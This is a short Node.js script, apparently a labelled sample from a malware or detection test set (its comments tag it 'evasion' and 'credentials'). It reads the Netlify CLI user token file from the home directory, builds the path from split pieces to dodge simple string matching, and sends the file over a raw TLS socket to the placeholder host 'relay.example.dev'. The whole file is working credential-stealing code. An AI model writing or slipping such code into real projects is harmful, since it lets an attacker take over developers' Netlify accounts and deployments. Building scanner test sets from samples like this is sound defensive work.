// evasion: the Netlify CLI's user tokens (~/.config/netlify/config.json) sent over a raw TLS socket
// grade: medium; does: credentials
'use strict';
const fs = require('fs');
const os = require('os');
const tls = require('tls');

const parts = ['.config', 'netlify', 'config.json'];
const blob = fs.readFileSync([os.homedir(), ...parts].join('/'));
const sock = tls.connect(443, 'relay.example.dev', () => sock.end(blob));
